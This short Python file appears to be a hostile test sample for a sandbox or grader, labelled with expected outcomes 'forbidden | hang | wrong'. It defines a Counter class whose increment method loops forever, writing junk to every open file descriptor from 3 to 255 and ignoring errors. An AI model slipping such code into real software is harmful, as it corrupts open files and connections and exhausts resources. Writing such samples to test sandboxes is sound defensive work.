# writes without end, and without a newline, to every open descriptor -> forbidden | hang | wrong
import os

class Counter:
    def __init__(self):
        self.value = 0

    def increment(self):
        while True:
            for descriptor in range(3, 256):
                try:
                    os.write(descriptor, b'x' * 4096)
                except OSError:
                    pass
